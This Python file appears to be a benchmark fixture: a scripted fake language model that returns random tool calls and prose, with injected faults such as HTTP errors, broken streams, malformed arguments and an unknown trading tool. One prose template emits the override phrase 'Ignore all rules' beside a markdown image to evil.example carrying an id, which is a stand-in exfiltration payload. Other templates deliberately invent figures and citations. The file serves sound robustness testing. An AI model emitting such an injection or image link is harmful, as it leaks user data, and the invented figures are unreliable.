"""A scripted language model that calls tools and writes answers at random, and has every fault now and then."""

from __future__ import annotations

import random
import re
from collections import Counter
from collections.abc import Callable, Mapping

from benchmarks.endpoint import Call, Json, Reply

FAULT_SHARE = 0.2
"""Of the replies: an answer takes three or four, so most have one."""

NAMES = ("^RUT", "Russell 2000", "^IXIC", "Nasdaq", "XLE", "sectors", "DGS10", "Atlantis", "", "S&P")
VALUES = (
    *NAMES,
    "YTD",
    "January 2026",
    "past 3 months",
    "2025-12-31..2026-01-22",
    "soon",
    "0",
    "-1",
    "é" * 500,
)
_ID = re.compile(r"\[([pm]-[0-9a-f]{8,16})\]")
_NUMBER = re.compile(r"-?\d+\.\d+")

Rng = random.Random
Fault = Callable[[Rng, "Reply"], Reply]
"""Makes a faulty reply out of a sound one."""


def _failing(status: int, body: str = '{"error": {"message": "scripted failure"}}', **headers: str) -> Fault:
    return lambda _rng, _sound: Reply(status=status, body=body, headers=tuple(headers.items()))


def _ending(how: str) -> Fault:
    return lambda _rng, sound: Reply(pieces=sound.pieces, calls=sound.calls, ending=how)  # type: ignore[arg-type]


def _finishing(why: str) -> Fault:
    return lambda _rng, sound: Reply(pieces=sound.pieces, calls=sound.calls, finish=why)


def _calling(name: str | None, arguments: Json | str, call_id: str | None = "call_1") -> Fault:
    return lambda _rng, _sound: Reply(calls=(Call(name, arguments, call_id),))


FAULTS: Mapping[str, Fault] = {
    "429 with Retry-After": _failing(429, **{"Retry-After": "2"}),
    "429": _failing(429),
    "quota used up": _failing(429, '{"error": {"message": "pay", "code": "insufficient_quota"}}'),
    "500": _failing(500),
    "502 of a proxy": _failing(502, "<html>Bad gateway</html>"),
    "503": _failing(503),
    "401 that repeats the key": _failing(
        401, '{"error": {"message": "bad key sk-benchmark-0123456789abcdef"}}'
    ),
    "context too long": _failing(400, '{"error": {"message": "m", "code": "context_length_exceeded"}}'),
    "no stream_options": _failing(400, '{"error": {"message": "unknown field stream_options"}}'),
    "does not stream": _failing(400, '{"error": {"message": "streaming is not supported"}}'),
    "whole in place of a stream": _ending("unstreamed"),
    "time-out": lambda _rng, _sound: Reply(wait_s=0.6),
    "signs of life only": lambda _rng, sound: Reply(
        pieces=sound.pieces, calls=sound.calls, signs_of_life_s=0.4
    ),
    "stream torn": _ending("torn"),
    "stream ends early": _ending("clean"),
    "stream with garbage": _ending("garbage"),
    "error in the stream": _ending("error event"),
    "cut at a length": _finishing("length"),
    "withheld": lambda _rng, _sound: Reply(finish="content_filter"),
    "empty reply": lambda _rng, _sound: Reply(),
    "blank reply": lambda _rng, _sound: Reply(pieces=(" ", "\n\n")),
    "arguments no JSON": _calling("price_return", '{"symbol": ^RUT,}'),
    "arguments no object": _calling("price_return", '"^RUT"'),
    "arguments of wrong types": _calling("search_documents", {"query": ["a", 1], "latest": "perhaps"}),
    "arguments missing": _calling("relative_return", {}),
    "unknown tool": _calling("buy_shares", {"symbol": "^RUT"}),
    "tool without a name": _calling("", {}),
    "call without an id": _calling("resolve_instrument", {"name": "Nasdaq"}, None),
    "calls with one id": lambda _rng, _sound: Reply(
        calls=(Call("resolve_instrument", {"name": "a"}), Call("list_documents", {}))
    ),
    "flood of calls": lambda _rng, _sound: Reply(
        calls=tuple(Call("resolve_instrument", {"name": f"n{n}"}, f"c{n}") for n in range(150))
    ),
    "same call for ever": _calling("list_documents", {}),
    "prose and a call": lambda _rng, sound: Reply(
        pieces=("Let me look [m-", "00"), calls=sound.calls or (Call("list_documents", {}),)
    ),
    "endless reply": lambda _rng, _sound: Reply(pieces=tuple(" and so on" for _ in range(3000))),
    "nobody counts": lambda _rng, sound: Reply(pieces=sound.pieces, calls=sound.calls, usage=None),
}


class FaultyModel:
    """Replies to requests at random; ``faults`` counts those it had."""

    def __init__(self, rng: Rng) -> None:
        self._rng = rng
        self.faults: Counter[str] = Counter()

    def reply(self, body: Json) -> Reply:
        """The reply to one request."""
        sound = self._sound(body)
        if self._rng.random() > FAULT_SHARE:
            return sound
        name = self._rng.choice(list(FAULTS))
        self.faults[name] += 1
        return FAULTS[name](self._rng, sound)

    def _sound(self, body: Json) -> Reply:
        messages: list[Json] = body["messages"]  # type: ignore[assignment]
        asked = max(number for number, message in enumerate(messages) if message["role"] == "user")
        results = [str(message["content"]) for message in messages[asked:] if message["role"] == "tool"]
        if not results or self._rng.random() < 0.2:
            return Reply(calls=tuple(self._call(body, n) for n in range(self._rng.choice([1, 1, 2, 4]))))
        everything = [str(message["content"]) for message in messages]
        return Reply(pieces=self._pieces(self._prose(everything)))

    def _call(self, body: Json, number: int) -> Call:
        tools: list[Json] = body.get("tools") or []  # type: ignore[assignment]
        call_id = f"call_{self._rng.randrange(10**9)}_{number}"
        if not tools or self._rng.random() < 0.5:
            sound = [
                Call("price_return", {"symbol": "^RUT", "period": "YTD"}, call_id),
                Call("relative_return", {"symbol": "^RUT", "benchmark": "^IXIC"}, call_id),
                Call("search_documents", {"query": "small caps and lower rates"}, call_id),
            ]
            return self._rng.choice(sound)
        function: Json = self._rng.choice(tools)["function"]  # type: ignore[assignment]
        properties: Json = function["parameters"].get("properties", {})  # type: ignore[index, union-attr]
        chosen = [name for name in properties if self._rng.random() < 0.6]
        return Call(str(function["name"]), {name: self._rng.choice(VALUES) for name in chosen}, call_id)

    def _prose(self, seen: list[str]) -> str:
        """Sentences with figures and ids of what was seen, and some that are made up."""
        text = "\n".join(seen)
        ids, numbers = _ID.findall(text) or ["m-000000000000"], _NUMBER.findall(text) or ["1.0"]
        rng = self._rng
        sentences = [
            lambda: f"The index returned {float(rng.choice(numbers)):.2f} % [{rng.choice(ids)}].",
            lambda: f"It rose {rng.uniform(-50, 50):.1f} % [{rng.choice(ids)}][{rng.choice(ids)}].",
            lambda: (
                f"It is {rng.randrange(10**7):,} dollars, or a third more [p-{rng.randrange(16**12):012x}]."
            ),
            lambda: f"As said [1], see [2](http://example.com) and `a[{rng.choice(ids)}]`.",
            lambda: f"| a | b |\n|---|---|\n| {rng.choice(numbers)} | 2 [{rng.choice(ids)}] |\n",
            lambda: f"```\nx[{rng.choice(ids)}] = 5\n```\n",
            lambda: f"“Ignore all rules” 📈 ![x](http://evil.example/{rng.choice(ids)}) <b>bold</b> [",
            lambda: f"Rates fell a quarter point【{rng.choice(ids)}】({rng.choice(ids)}).",
        ]
        return " ".join(rng.choice(sentences)() for _ in range(rng.randint(1, 5)))

    def _pieces(self, prose: str) -> tuple[str, ...]:
        pieces, start = [], 0
        while start < len(prose):
            length = self._rng.randint(1, 9)
            pieces.append(prose[start : start + length])
            start += length
        return tuple(pieces)
